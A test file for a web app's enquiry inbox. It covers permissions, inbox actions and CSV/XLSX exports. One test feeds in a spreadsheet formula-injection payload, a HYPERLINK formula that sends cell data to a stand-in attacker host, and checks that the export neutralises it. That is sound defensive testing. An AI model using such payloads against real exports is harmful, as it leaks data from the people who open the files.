import { parse } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import { beforeAll, describe, expect, it } from 'vitest'
import { enquiries, mailOutbox } from '#app/db/schema.ts'
import { submitQuote } from '#app/domain/enquiries/enquiries.server.ts'
import { listEnquiries } from '#app/domain/enquiries/inbox.server.ts'
import { payNowUrl } from '#app/domain/payments/paynow-message.ts'
import { messages } from '#app/lib/errors.ts'
import { freshAddress, postJson, postForm as postPublic, validQuote } from '../helpers/forms.ts'
import { useTestServer } from '../helpers/server.ts'
import { createGroup, createStaff, getPage, postForm, sessionCookieFor, snapshot } from '../helpers/staff.ts'

/**
 * The inbox's screens and downloads over HTTP: what each right opens, the actions' answers and messages, and the
 * CSV and XLSX files with the screen's columns and filter. (Every denial of every route is also in the matrix.)
 */

const server = useTestServer({ TRUST_PROXY: '1' })
const handle = server.database
const cookies: Record<'query' | 'edit' | 'none' | 'manager', string> = { query: '', edit: '', none: '', manager: '' }
const origin = { ip: '10.0.0.9', sourcePath: '/contact', notify: 'info@example.in' }
let enquiryId: number

beforeAll(async () => {
  const as = async (group: number) => sessionCookieFor(handle.db, (await createStaff(handle.db, { group })).srno)
  cookies.query = await as(await createGroup(handle.db, { ENQUIRY: { query: true } }))
  cookies.edit = await as(await createGroup(handle.db, { ENQUIRY: { query: true, edit: true } }))
  cookies.none = await as(3)
  cookies.manager = await as(2)
  enquiryId = (
    await submitQuote(
      handle.db,
      {
        name: 'Kavita Joshi',
        email: 'kavita@example.in',
        phone: '9822001100',
        location: 'Pune, "Camp"',
        service: 'AEPS',
        message: 'Call after 5, please',
      },
      'contact',
      origin,
    )
  ).id
  await submitQuote(
    handle.db,
    { name: 'Other Person', email: '', phone: '9822001101', location: '', service: 'DMT', message: '' },
    'quote',
    origin,
  )
})

describe('every public form endpoint reaches the inbox', () => {
  it('quote, contact, callback, the older contact call and the pay form, each with its mail, newest first', async () => {
    const mark = Date.now().toString(36)
    const name = (label: string) => `${label} ${mark}`
    expect((await postPublic(server.url, '/enquiry', { ...validQuote, name: name('Quote') })).status).toBeLessThan(400)
    expect(
      (
        await postPublic(server.url, '/enquiry', {
          ...validQuote,
          variant: 'contact',
          source: '/contact',
          name: name('Contact'),
        })
      ).status,
    ).toBeLessThan(400)
    expect(
      (
        await postJson(server.url, '/api/callback', {
          name: name('Callback'),
          phone: '9123456780',
          email: '',
          message: '',
        })
      ).status,
    ).toBe(200)
    const payload = { ...validQuote, name: name('Older') }
    expect(
      (await postPublic(server.url, '/api/contact_a.php', { '1': 'contactus', '2': JSON.stringify(payload) })).status,
    ).toBeLessThan(400)
    const pay = payNowUrl({
      name: name('Payer'),
      email: 'payer@example.in',
      phone: '9988776655',
      amount: '1500',
      message: '',
    })
    expect(
      (await fetch(server.url + pay, { redirect: 'manual', headers: { 'X-Forwarded-For': freshAddress() } })).status,
    ).toBeLessThan(400)
    const rows = (await listEnquiries(handle.db, { q: mark })).rows
    expect(rows.map((r) => [r.kind, r.name])).toEqual([
      ['payment', name('Payer')],
      ['contact', name('Older')],
      ['callback', name('Callback')],
      ['contact', name('Contact')],
      ['quote', name('Quote')],
    ])
    expect(rows.every((r) => r.mailState === 'queued')).toBe(true)
    expect(rows[0]!.message).toBe('Amount: Rs. 1500')
    expect(rows[1]!.sourcePath).toBe('/api/contact_a.php')
  })
})

describe('the inbox pages', () => {
  it('lists the enquiries for ENQUIRY query, with received time in IST and the mail state', async () => {
    const res = await getPage(server.url, '/enquiries', cookies.query)
    expect(res.status).toBe(200)
    expect(res.headers.get('cache-control')).toBe('no-store')
    const html = await res.text()
    expect(html).toContain('Kavita Joshi')
    expect(html).toMatch(/\d{2}\/\d{2}\/\d{4} \d{2}:\d{2} IST/)
    expect(html).toContain('Queued')
  })

  it('the header rights reply offers the inbox to ENQUIRY holders only', async () => {
    const rights = async (cookie: string) => (await (await getPage(server.url, '/api/rights', cookie)).json()).ENQUIRY
    expect(await rights(cookies.manager)).toBe('1')
    expect(await rights(cookies.none)).toBe('0')
  })

  it('filters from the URL', async () => {
    const html = await (await getPage(server.url, '/enquiries?service=DMT', cookies.query)).text()
    expect(html).toContain('Other Person')
    expect(html).not.toContain('Kavita Joshi')
  })

  it('answers users without ENQUIRY 403 (ADR 0139), and a missing enquiry is a 404', async () => {
    for (const path of ['/enquiries', `/enquiries/${enquiryId}`, '/enquiries/download?format=csv']) {
      const res = await getPage(server.url, path, cookies.none)
      expect(res.status).toBe(403)
    }
    expect((await getPage(server.url, '/enquiries/999999', cookies.query)).status).toBe(404)
    expect((await getPage(server.url, '/enquiries/abc', cookies.query)).status).toBe(404)
  })

  it('shows actions by right: query sees no forms; edit and CRM add see theirs', async () => {
    const query = await (await getPage(server.url, `/enquiries/${enquiryId}`, cookies.query)).text()
    expect(query).not.toContain('Mark handled')
    expect(query).not.toContain('Make lead')
    const manager = await (await getPage(server.url, `/enquiries/${enquiryId}`, cookies.manager)).text()
    expect(manager).toContain('Mark handled')
    expect(manager).toContain(`/crm/leads/new?enquiry=${enquiryId}`)
  })

  it('opens the lead form filled from the enquiry for a manager, and ignores the enquiry without ENQUIRY', async () => {
    const html = await (await getPage(server.url, `/crm/leads/new?enquiry=${enquiryId}`, cookies.manager)).text()
    expect(html).toContain(`From web enquiry No. ${enquiryId}`)
    expect(html).toContain('kavita@example.in')
    expect(html).toContain('Web enquiry: AEPS')
    const field = await (await getPage(server.url, `/crm/leads/new?enquiry=${enquiryId}`, cookies.none)).text()
    expect(field).not.toContain('kavita@example.in')
  })
})

describe('actions', () => {
  it('mark handled: a note is required; query is refused and changes nothing; edit keeps note, who and when', async () => {
    const path = `/enquiries/${enquiryId}`
    const before = await snapshot(handle.db)
    const denied = await postForm(server.url, path, { intent: 'handle', note: 'Called' }, cookies.query)
    expect(denied.status).toBe(403)
    expect(await snapshot(handle.db)).toBe(before)

    const empty = await postForm(server.url, path, { intent: 'handle', note: '  ' }, cookies.edit)
    expect(empty.status).toBe(400)
    expect(await empty.text()).toContain(messages.ENQUIRY_NOTE_REQUIRED)

    const twice = await postForm(server.url, path, { intent: 'handle', note: 'a', enquiryId: '1' }, cookies.edit)
    expect(twice.status).toBe(400)

    const ok = await postForm(server.url, path, { intent: 'handle', note: 'Called, sent prices' }, cookies.edit)
    expect(ok.status).toBe(302)
    const page = await (await getPage(server.url, `${path}?done=handled`, cookies.query)).text()
    expect(page).toContain(messages.ENQUIRY_HANDLED)
    expect(page).toContain('Called, sent prices')

    const again = await postForm(server.url, path, { intent: 'handle', note: 'Again' }, cookies.edit)
    expect(again.status).toBe(409)
  })

  it('retry: refused for a queued mail, accepted for a failed one', async () => {
    const path = `/enquiries/${enquiryId}`
    const queued = await postForm(server.url, path, { intent: 'retry' }, cookies.edit)
    expect(queued.status).toBe(409)
    expect(await queued.text()).toContain(messages.MAIL_NOT_RETRYABLE)
    const [row] = await handle.db.select().from(enquiries).where(eq(enquiries.id, enquiryId))
    await handle.db
      .update(mailOutbox)
      .set({ attempts: 9, lastError: '421 busy', nextAttemptAt: new Date(Date.now() + 600_000) })
      .where(eq(mailOutbox.id, row!.mailId!))
    const page = await (await getPage(server.url, path, cookies.edit)).text()
    expect(page).toContain('Failed')
    expect(page).toContain('Last error: 421 busy')
    const ok = await postForm(server.url, path, { intent: 'retry' }, cookies.edit)
    expect(ok.status).toBe(302)
    const [mail] = await handle.db.select().from(mailOutbox).where(eq(mailOutbox.id, row!.mailId!))
    expect(mail!.nextAttemptAt.getTime()).toBeLessThan(Date.now() + 1000)
  })
})

describe('downloads', () => {
  it('CSV: the screen columns and filter, streamed with a BOM', async () => {
    const res = await getPage(server.url, '/enquiries/download?format=csv&kind=contact&q=Kavita', cookies.query)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(res.headers.get('content-disposition')).toMatch(
      /attachment; filename="web-enquiries_start_\d{4}-\d{2}-\d{2}\.csv"/,
    )
    const bytes = Buffer.from(await res.arrayBuffer())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = bytes.subarray(3).toString('utf8').trim().split(/\r?\n/)
    expect(lines[0]).toMatch(/^No\.,Kind,Received \(IST\),Name,Phone,Email,Location,Service,Message,Page,Mail/)
    expect(lines).toHaveLength(2)
    expect(lines[1]).toContain('Kavita Joshi')
    expect(lines[1]).toContain('"Pune, ""Camp"""')
  })

  it('CSV: a public callback named as a formula comes out as text (a leading apostrophe), in the XLSX as a string', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    const sent = await postJson(server.url, '/api/callback', {
      name,
      phone: '9733001177',
      email: '',
      message: '@SUM(1,2)',
    })
    expect(sent.status).toBe(200)
    const res = await getPage(server.url, '/enquiries/download?format=csv&q=9733001177', cookies.query)
    expect(res.status).toBe(200)
    const text = Buffer.from(await res.arrayBuffer())
      .subarray(3)
      .toString('utf8')
    const [header, row] = parse(text) as string[][]
    expect(row![header!.indexOf('Name')]).toBe(`'${name}`)
    expect(row![header!.indexOf('Message')]).toBe("'@SUM(1,2)")
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)

    const xlsx = await getPage(server.url, '/enquiries/download?format=xlsx&q=9733001177', cookies.query)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer)
    const cell = book.worksheets[0]!.getRow(2).getCell(4)
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.value).toBe(name)
  })

  it('XLSX: a workbook with the header row and typed cells', async () => {
    const res = await getPage(server.url, '/enquiries/download?format=xlsx&q=98220011', cookies.query)
    expect(res.status).toBe(200)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer)
    const sheet = book.worksheets[0]!
    expect(sheet.getRow(1).getCell(4).value).toBe('Name')
    expect(sheet.rowCount).toBe(3)
    expect(sheet.getRow(2).getCell(3).value).toBeInstanceOf(Date)
  })
})
